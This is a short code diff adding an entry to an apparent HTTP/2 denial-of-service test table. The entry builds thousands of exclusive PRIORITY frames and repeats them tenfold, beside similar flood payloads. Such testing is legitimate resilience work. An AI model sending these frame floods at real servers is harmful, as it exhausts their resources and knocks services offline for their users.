@@ -68,6 +68,10 @@ HTTP2 = {
     "priority": Attack(
         OPENING + b"".join(frame(PRIORITY, 0, n, struct.pack("!IB", 1 << 31, 1)) for n in range(1, 20_001, 2))
     ),
+    "priority, again and again": Attack(
+        OPENING + b"".join(frame(PRIORITY, 0, n, struct.pack("!IB", 1 << 31, 1)) for n in range(1, 1_801, 2)),
+        b"".join(frame(PRIORITY, 0, n, struct.pack("!IB", 1 << 31, 1)) for n in range(1, 1_801, 2)) * 10,
+    ),
     "priority in heads": Attack(
         OPENING + requests(90, struct.pack("!IB", 1 << 31, 1) + head(), flags=END_STREAM | END_HEADERS | PRIORITY_FLAG)
     ),
